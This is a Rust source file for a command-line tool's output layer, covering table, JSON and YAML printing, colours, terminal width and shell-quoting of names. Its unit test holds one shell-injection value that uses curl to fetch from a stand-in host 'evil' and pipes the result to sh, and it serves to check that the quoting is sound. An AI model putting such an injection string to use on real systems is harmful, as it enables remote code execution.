//! What commands print: a table for people, JSON or YAML for programs, colours where they are wanted.
//!
//! A command asks [`OutputArgs::printer`] for a [`Printer`] and gives it a value with a way to tell it in words; the
//! user's `-o` decides which of the two is printed. Text that came from outside goes through
//! [`interlock_core::text::visible`] on its way, in tables ([`table::Table`]) as in JSON and YAML ([`document`]).

pub mod causes;
pub mod confirm;
pub mod document;
pub mod exit;
pub mod layouts;
pub mod paint;
pub mod span;
pub mod table;
pub mod tell;
pub mod terminal;
pub mod wrap;

use std::io::{self, IsTerminal, Write};

use clap::{Args, ValueEnum};
use interlock_core::text::visible::{visible, visible_lines};
use serde::Serialize;

use crate::output::exit::{Exit, ExitError};
use paint::{ColorChoice, Paint};

/// A name as an argument of a command that is printed to be copied: no shell takes a part of it for anything else.
pub fn as_argument(name: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@');
    if !name.is_empty() && name.chars().all(is_plain) {
        return name.to_owned();
    }
    format!("'{}'", visible(name).replace('\'', r"'\''"))
}

#[derive(Debug, Clone, Copy, Args)]
pub struct OutputArgs {
    /// How to print what was asked for.
    #[arg(short, long, global = true, value_enum, default_value_t = Format::Table, env = "INTERLOCK_OUTPUT", hide_env = true, help_heading = "Output")]
    pub output: Format,
    /// When to use colours; `auto` obeys NO_COLOR, CLICOLOR, CLICOLOR_FORCE and the terminal.
    #[arg(long, global = true, value_enum, default_value_t = ColorChoice::Auto, value_name = "WHEN", help_heading = "Output")]
    pub color: ColorChoice,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Format {
    /// For people.
    Table,
    Json,
    Yaml,
}

impl OutputArgs {
    pub fn printer(self) -> Printer {
        let terminal = io::stdout().is_terminal();
        Printer { format: self.output, paint: self.color.paint(terminal), terminal }
    }
}

/// Prints values the way the user asked for.
#[derive(Debug, Clone, Copy)]
pub struct Printer {
    pub format: Format,
    pub paint: Paint,
    /// The output is a terminal, so it has a width.
    pub terminal: bool,
}

impl Printer {
    /// For a command that says what it does as it goes, in words and without colours.
    pub fn plain() -> Self {
        Self { format: Format::Table, paint: Paint::OFF, terminal: io::stdout().is_terminal() }
    }

    /// Prints a value as JSON or YAML, or tells it in words.
    pub fn show<T: Serialize + ?Sized>(self, value: &T, words: impl FnOnce(Paint) -> String) -> anyhow::Result<()> {
        match self.format {
            Format::Table => say(&words(self.paint)),
            Format::Json => say(&document::json(value)?),
            Format::Yaml => say(&document::yaml(value)?),
        }
    }

    /// Prints a list: rows for people, the value for programs. An empty list says so in words.
    pub fn list<T: Serialize + ?Sized>(
        self,
        value: &T,
        table: impl FnOnce(Paint) -> table::Table,
        if_empty: &str,
    ) -> anyhow::Result<()> {
        self.show(value, |paint| {
            let table = table(paint);
            if table.is_empty() { format!("{if_empty}\n") } else { table.render(paint, self.width()) }
        })
    }

    /// Something to know beside the answer: on stderr, and only for people.
    pub fn note(self, text: &str) {
        if self.format == Format::Table {
            say_aside(text);
        }
    }

    /// Says that a list goes on behind what is shown of it.
    pub fn note_more(self, shown: usize, more: bool) {
        if more {
            self.note(&format!("The first {shown} are shown; `--limit {}` shows more.", shown * 10));
        }
    }

    /// How many columns there are; without a terminal, as many as it takes.
    pub fn width(self) -> usize {
        if !self.terminal {
            return usize::MAX;
        }
        columns().unwrap_or(wrap::PROSE_COLUMNS)
    }

    /// How many columns prose is broken into.
    pub fn prose_width(self) -> usize {
        let terminal = self.terminal.then(columns).flatten();
        wrap::prose_columns(terminal, std::env::var("COLUMNS").ok().as_deref())
    }
}

/// Text from outside that may have several lines, each after the first one indented by so many columns.
pub fn indented_lines(text: &str, indent: usize) -> String {
    visible_lines(text.trim_end()).replace('\n', &format!("\n{}", " ".repeat(indent)))
}

/// Prints text on stdout, with a line feed at its end. A reader that has gone away ends the command in peace.
pub fn say(text: &str) -> anyhow::Result<()> {
    let mut out = io::stdout().lock();
    let end = if text.ends_with('\n') { "" } else { "\n" };
    match write!(out, "{text}{end}").and_then(|()| out.flush()) {
        Err(error) if error.kind() == io::ErrorKind::BrokenPipe => Err(ExitError::silently(Exit::Unsuccessful)),
        done => Ok(done?),
    }
}

/// Prints a line, or several, of a command that comes to its end whether or not somebody reads it (`db restore … | head`): a
/// reader that has gone away is no reason to leave a store half in service. What else keeps it from being printed is told on
/// stderr.
pub fn say_on(text: &str) {
    let mut out = io::stdout().lock();
    let end = if text.ends_with('\n') { "" } else { "\n" };
    if let Err(error) = write!(out, "{text}{end}").and_then(|()| out.flush())
        && error.kind() != io::ErrorKind::BrokenPipe
    {
        say_aside(&format!("interlock: cannot print: {error}"));
    }
}

/// Prints a line on stderr. A reader that has gone away must not end the process, nor the task that says it: the worker
/// that is asked to stop says that it drains before it does.
pub fn say_aside(text: &str) {
    let end = if text.ends_with('\n') { "" } else { "\n" };
    let _ = write!(io::stderr(), "{text}{end}");
}

/// Puts a question on stderr; the answer stands on its line. A question that nobody can see is an error.
pub fn ask_aside(question: &str) -> io::Result<()> {
    let mut err = io::stderr();
    write!(err, "{question}")?;
    err.flush()
}

/// The width of the terminal behind stdout.
pub fn columns() -> Option<usize> {
    let size = rustix::termios::tcgetwinsize(io::stdout()).ok()?;
    (size.ws_col > 0).then_some(usize::from(size.ws_col))
}

#[cfg(test)]
mod tests {
    use super::as_argument;

    #[test]
    fn a_name_in_a_printed_command_is_one_word_of_a_shell() {
        assert_eq!(as_argument("deploy-1"), "deploy-1");
        assert_eq!(as_argument("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
        assert_eq!(as_argument("it's"), r"'it'\''s'");
        assert_eq!(as_argument(""), "''");
    }
}
